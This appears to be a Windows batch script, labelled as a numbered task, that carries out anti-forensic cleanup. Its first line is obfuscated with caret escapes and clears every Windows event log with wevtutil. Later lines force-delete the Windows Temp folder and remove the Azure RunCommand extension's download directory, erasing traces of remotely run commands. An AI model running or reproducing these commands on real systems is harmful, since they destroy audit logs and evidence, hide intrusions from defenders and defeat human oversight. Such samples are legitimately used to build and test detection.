REM task 0487 v0
fo^r /F "tokens=*" %%^1 ^in ('^w^ev^t^uti^l.^exe e^l') D^O ^w^e^vtu^t^il.exe ^c^l "%%1"
@echo off
set lqlv=del /f /q C:\Windows\Temp\*.*
call %lqlv%
@echo off
set mvqi=rd /s /q C:\Packages\Plugins\Microsoft.CPlat.Core.RunCommandWindows\1.1.15\Downloads
call %mvqi%
